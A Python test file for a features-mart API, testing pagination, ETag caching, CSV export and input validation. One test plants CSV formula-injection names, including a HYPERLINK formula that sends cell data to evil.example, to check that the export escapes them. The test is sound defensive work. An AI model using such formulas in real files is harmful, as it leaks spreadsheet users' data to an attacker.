from __future__ import annotations

import pytest
from psycopg.rows import dict_row

from tests.expected import assert_rows_match, compute


def test_features_before_any_run_is_a_clear_503(client):
    for path in ("/features", "/features/1"):
        answer = client.get(path)
        assert answer.status_code == 503
        assert "trigger a run" in answer.json()["detail"]


def test_features_serve_the_mart(client, database, settings, tmp_path):
    assert client.post("/trigger?wait=true").json()["status"] == "success"
    page = client.get("/features").json()
    assert (page["total"], page["limit"], page["offset"]) == (10, 100, 0)
    with database.connect(row_factory=dict_row) as conn:
        table = conn.execute("select * from marts.user_features order by user_id").fetchall()
    assert [r["user_id"] for r in page["items"]] == [r["user_id"] for r in table]
    assert_rows_match(page["items"], compute(settings.data_dir, tmp_path / "expected"))
    assert list(page["items"][0]) == list(table[0]), "the API serves the mart's columns, in order"

    second = client.get("/features?limit=3&offset=3").json()
    assert [r["user_id"] for r in second["items"]] == [4, 5, 6] and second["total"] == 10
    assert client.get("/features?offset=50").json() == {"items": [], "total": 10, "limit": 100, "offset": 50}
    assert client.get("/features?limit=1001").status_code == 422
    assert client.get("/features?limit=1000").status_code == 200

    alice = client.get("/features/1").json()
    assert alice["name"] == "Alice" and alice["most_common_compound_id"] == 2 and alice["tied_compound_ids"] == [2]
    missing = client.get("/features/999")
    assert missing.status_code == 404 and "999" in missing.json()["detail"]
    assert client.get("/features/abc").status_code == 422


@pytest.mark.slow
def test_etag_names_the_published_run_and_answers_304_until_the_next_publish(client, database):
    first = client.post("/trigger?wait=true").json()
    page = client.get("/features")
    etag, run_header = page.headers["etag"], page.headers["x-mart-run-id"]
    assert run_header == str(first["run_id"]) and etag.startswith('"') and etag.endswith('"')
    one = client.get("/features/1")
    assert one.headers["etag"] == etag and one.headers["x-mart-run-id"] == run_header

    for path in ("/features", "/features/1", "/features?format=csv", "/features?limit=3"):
        cached = client.get(path, headers={"If-None-Match": etag})
        assert cached.status_code == 304 and cached.content == b"", path
        assert cached.headers["etag"] == etag
    assert client.get("/features", headers={"If-None-Match": '"mart-0-1"'}).status_code == 200

    second = client.post("/trigger?wait=true").json()
    fresh = client.get("/features", headers={"If-None-Match": etag})
    assert fresh.status_code == 200 and fresh.headers["etag"] != etag
    assert fresh.headers["x-mart-run-id"] == str(second["run_id"])
    with database.connect() as conn:  # the run id lives in the mart table's comment, written by the publish
        comment = conn.execute("select obj_description('marts.user_features'::regclass)").fetchone()[0]
    assert comment.startswith("One row per user"), "dbt's description (persist_docs) first"
    assert comment.endswith(f"\n\npublished by features-mart run {second['run_id']}"), comment


@pytest.mark.slow
def test_csv_streams_the_same_rows_as_json(client, settings, monkeypatch):
    import csv
    import io

    from api.core.mart import read as mart

    monkeypatch.setattr(mart, "CSV_BATCH", 3)  # several round trips of the server-side cursor on 10 rows
    assert client.get("/features?format=csv").status_code == 503
    # the attack: names a spreadsheet runs as formulas when it opens the CSV
    formulas = {2: '=HYPERLINK("http://evil.example/?"&A1,"Bob")', 3: "@SUM(1+1)", 4: "+1-1", 5: "-2+3"}
    users = settings.data_dir / "users.csv"
    lines = users.read_text().splitlines()
    for user_id, name in formulas.items():
        fields = lines[user_id].split(",")
        lines[user_id] = ",".join([fields[0], '"' + name.replace('"', '""') + '"', *fields[2:]])
    users.write_text("\n".join(lines) + "\n")
    assert client.post("/trigger?wait=true").json()["status"] == "success"
    answer = client.get("/features?format=csv&limit=2")  # limit does not cut the CSV
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["x-mart-run-id"] and answer.headers["etag"] == client.get("/features").headers["etag"]
    table = list(csv.reader(io.StringIO(answer.text)))
    items = client.get("/features?limit=1000").json()["items"]
    assert table[0] == list(items[0]), "header: the JSON's fields, in order"
    assert len(table) == len(items) + 1 == 11
    expected = [[mart.csv_value(v) for v in item.values()] for item in items]
    assert table[1:] == expected
    # spot checks of the text form: numbers as in JSON, arrays ;-separated, null empty
    by_id = {row[0]: dict(zip(table[0], row, strict=True)) for row in table[1:]}
    alice = next(i for i in items if i["user_id"] == 1)
    assert float(by_id["1"]["experiment_share"]) == alice["experiment_share"]
    assert by_id["1"]["tied_compound_ids"] == ";".join(map(str, alice["tied_compound_ids"]))
    nobody = [i for i in items if i["total_experiments"] == 0]
    assert all(by_id[str(i["user_id"])]["avg_experiment_run_time"] == "" for i in nobody)
    # formulas: a leading ' in the CSV, the JSON unchanged
    for user_id, name in formulas.items():
        assert by_id[str(user_id)]["name"] == "'" + name
        assert next(i for i in items if i["user_id"] == user_id)["name"] == name
    assert by_id["1"]["name"] == "Alice"


def test_out_of_range_parameters_get_422_everywhere(client):
    huge = "100000000000000000000"
    for path in (
        f"/features?offset={huge}", f"/runs?offset={huge}", f"/features/{huge}", f"/features/-{huge}",
        f"/runs/{huge}", f"/runs/{huge}/logs", "/runs/0", "/runs/1/logs?tail=0", f"/runs/1/logs?tail={huge}",
        "/features?limit=1001", "/features?offset=-1", "/runs?limit=100000",
    ):  # fmt: skip
        answer = client.get(path)
        assert answer.status_code == 422, (path, answer.status_code, answer.text)
    assert client.get("/runs?offset=2147483647").json()["items"] == []
    assert client.get("/features/9223372036854775807").status_code == 503  # in range: no mart yet
